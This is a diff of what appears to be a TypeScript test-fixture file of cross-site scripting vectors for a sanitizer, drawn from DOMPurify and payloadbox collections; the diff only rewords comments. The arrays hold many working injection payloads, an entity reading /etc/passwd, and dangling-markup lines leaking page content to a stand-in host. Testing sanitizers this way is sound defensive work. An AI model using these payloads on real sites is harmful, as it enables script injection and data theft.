@@ -1,7 +1,7 @@
 /**
- * Ways in which markup has been made to run a script, one or two of each class in the collections that know them best:
- * the fixtures of cure53/DOMPurify (test/fixtures/expect.mjs) and payloadbox/xss-payload-list, which is for the most part
- * each element with each handler (see xss-combinations.ts). Each of these calls `alert` in the Chromium of these tests.
+ * Markup that runs a script, one or two of each class in the best-known collections: the fixtures of cure53/DOMPurify
+ * (test/fixtures/expect.mjs) and payloadbox/xss-payload-list, which mostly combines elements with handlers (see
+ * xss-combinations.ts). Each of these calls `alert` in the Chromium of these tests.
  */
 export const living: ReadonlyArray<string> = [
   // Scripts, plainly and by confused parsing.
@@ -24,7 +24,7 @@ export const living: ReadonlyArray<string> = [
   '<style></style ><img src=x onerror=alert(1)></style>',
   '<xml id=d><b>&lt;img src=x onerror=alert(1)&gt;</b><script>alert(1)</script></xml><p datasrc=#d datafld=b dataformatas=html>x</p>',
   '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;<img src=x onerror=alert(1)></p>',
-  // Handlers that need nobody.
+  // Handlers that need no interaction.
   '<img src=x onerror=alert(1)>',
   '<img/src/onerror=alert(1)>',
   '<img src=x onerror\n=\nalert(1)>',
@@ -69,7 +69,7 @@ export const living: ReadonlyArray<string> = [
   '<select onchange=alert(1) oninput=alert(1)><option>a<option>b</select>',
   '<p onclick!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1) onclick=alert(1)>x</p>',
   '<body onmessage=alert(1) onload="postMessage(1)">',
-  // Addresses that are programs.
+  // Script addresses.
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" &#14;  javascript:alert(1)">x</a>',
   '<a href="java\tscript:alert(1)">x</a>',
@@ -110,7 +110,7 @@ export const living: ReadonlyArray<string> = [
   '<svg><path><animateMotion onbegin=alert(1) dur=1s /></path></svg>',
   '<svg><set attributeName=x onbegin=alert(1)></svg>',
   '<svg><![CDATA[><img title="]]><img src=x onerror=alert(1)>"></svg>',
-  // Markup that is harmless until it is written out and read again.
+  // Markup that is harmless until it is serialised and parsed again.
   '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
   '<svg></p><title><template id=t><style></title><img src=a onerror=alert(1)>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -130,16 +130,16 @@ export const living: ReadonlyArray<string> = [
   '<svg></p><textarea><g><style></textarea><img src=a onerror=alert(1)>',
   '<math></br><textarea><ms><template><style></textarea><img src=a onerror=alert(1)>',
   '<svg><p><style><rect id="</style><img src=a onerror=alert(1)>">',
-  // Names that stand in for the page's own, or move what the page has.
+  // Names that shadow the page's own, or move its parts.
   '<button command=show-modal commandfor=callback-dialog onclick=alert(1)>x</button><form><input name=namespaceURI dirname=x></form>',
   '<a id=location href="javascript:alert(1)">x</a><a id=defaultView name=alert>x</a>',
   '<form onmouseover=alert(1)><input name=attributes><input name=parentNode></form>',
   '<img name=createElement><img name=cookie><form name=activeElement><input name=submit><input name=firstElementChild></form><svg onload=alert(1)>',
-  // Words that mean something to a framework.
+  // Template syntax of frameworks.
   '<p is="x-y"><x-y onclick=alert(1) onmouseover=alert(1)>x</x-y>',
 ];
 
-/** Ways that worked in other browsers, or in this one before, or that work only on what is written out and read again. */
+/** Vectors of other or older browsers, or that work only on markup that is serialised and parsed again. */
 const dormant: ReadonlyArray<string> = [
   // Scripts, plainly and by confused parsing.
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -155,13 +155,13 @@ const dormant: ReadonlyArray<string> = [
   '<comment><img title="</comment><img src=x onerror=alert(1)>"></comment>',
   "<p '=\"a\"><p b='><img src=x onerror=alert(1)>'>x</p>",
   '<p a=b`><img title="`><img src=x onerror=alert(1)>">x</p>',
-  // Handlers that need nobody.
+  // Handlers that need no interaction.
   '<IMG SRC="x" ONERROR="alert(1)"',
   '<img src=`x:x`onerror=alert(1)>',
   '<img\u000bsrc=x\u000bonerror=alert(1)>',
   '<svg/onload=alert(1)//',
   '<marquee onstart=alert(1)>x</marquee>',
-  // Addresses that are programs.
+  // Script addresses.
   '<a href="\u2028javascript:alert(1)">x</a>',
   '<a href="&#xA0;javascript:alert(1)">x</a><a href="&#x1680;javascript:alert(1)">x</a><a href="&#x3000;javascript:alert(1)">x</a>',
   '<a href="feed:javascript:alert(1)">x</a><a href="view-source:javascript:alert(1)">x</a><a href="mhtml:javascript:alert(1)">x</a>',
@@ -192,7 +192,7 @@ const dormant: ReadonlyArray<string> = [
   '<math><a xlink:href="javascript:alert(1)">x</a></math>',
   '<math href="javascript:alert(1)">x</math>',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  // Markup that is harmless until it is written out and read again.
+  // Markup that is harmless until it is serialised and parsed again.
   '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img src=a onerror=alert(1)&gt;">',
   '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -217,14 +217,14 @@ const dormant: ReadonlyArray<string> = [
   '<meta charset=x-mac-farsi>¼script ¾alert(1)//¼/script ¾',
   '\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E \\u003cimg src=x onerror=alert(1)\\u003e %253Cscript%253Ealert(1)%253C/script%253E &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
   "<!--#exec cmd=\"echo '<script>alert(1)</script>'\"--><? echo('<script>alert(1)</script>'); ?>",
-  // Names that stand in for the page's own, or move what the page has.
+  // Names that shadow the page's own, or move its parts.
   '<a class="fixed inset-0" id=main href="/contact">x</a>',
   '<base target="alert(1)"><a target="alert(1)" download=x.html href="/contact">x</a>',
   '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>',
   '<form action="https://away.example/" target=x><button formtarget=y>x</button><textarea name=words>',
   '<p>x</p><img src="https://away.example/?<p>what comes after an open quote</p>',
   '<img name=getElementById><form name=body><input name=attributes><input id=nodeName></form>',
-  // Words that mean something to a framework.
+  // Template syntax of frameworks.
   '<p dangerouslysetinnerhtml=\'{"__html":"<img src=x onerror=alert(1)>"}\'>x</p>',
   '<p __proto__=x constructor=y children="<img src=x onerror=alert(1)>" ref=x key=y>x</p>',
   '{{constructor.constructor("alert(1)")()}}#{alert(1)}<%= alert(1) %>',
